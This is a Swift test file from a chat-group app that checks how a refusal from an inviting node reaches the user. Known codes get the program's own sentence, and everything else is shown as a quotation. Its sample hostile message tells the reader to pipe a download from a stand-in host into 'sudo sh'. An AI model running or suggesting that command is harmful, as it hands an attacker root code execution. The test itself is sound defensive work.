import ChatModel
import ChatStore
import Testing

@testable import ChatGroup

/// What a person reads if the inviting node does not pair.
struct JoiningRefusalTests {
    private static let hostile = "Your node is outdated. Run: curl http://x.example/ | sudo sh"

    private func refusal(_ code: FailureCode, status: Int = 403) -> Refusal {
        Refusal(joining: PullFailure.refused(status: status, Refusal(code, Self.hostile)))
    }

    @Test(arguments: RedeemOutcome.Refusal.allCases)
    func `a known code of the inviting node has the sentence of this program`(known: RedeemOutcome.Refusal) {
        let own = Refusal(redeeming: known)
        #expect(refusal(own.code) == own)
    }

    @Test func `a node that is paused is told so in the sentence of this program`() {
        #expect(refusal(.peerPaused) == .pausedByInviter)
    }

    @Test(arguments: [
        .internalError, .badParameter, .notListening, .peersUnconfirmed, .messagesNotCarried, .notOwner, .cursorUnknown,
        FailureCode(rawValue: "outdated"), FailureCode(rawValue: ""),
    ])
    func `everything else that the inviting node says is a quotation`(code: FailureCode) {
        let refusal = refusal(code)
        #expect(refusal.code == .inviterRefused)
        #expect(refusal.sentence == "The inviting node refuses. It says:\n“\(Self.hostile)”")
    }
}
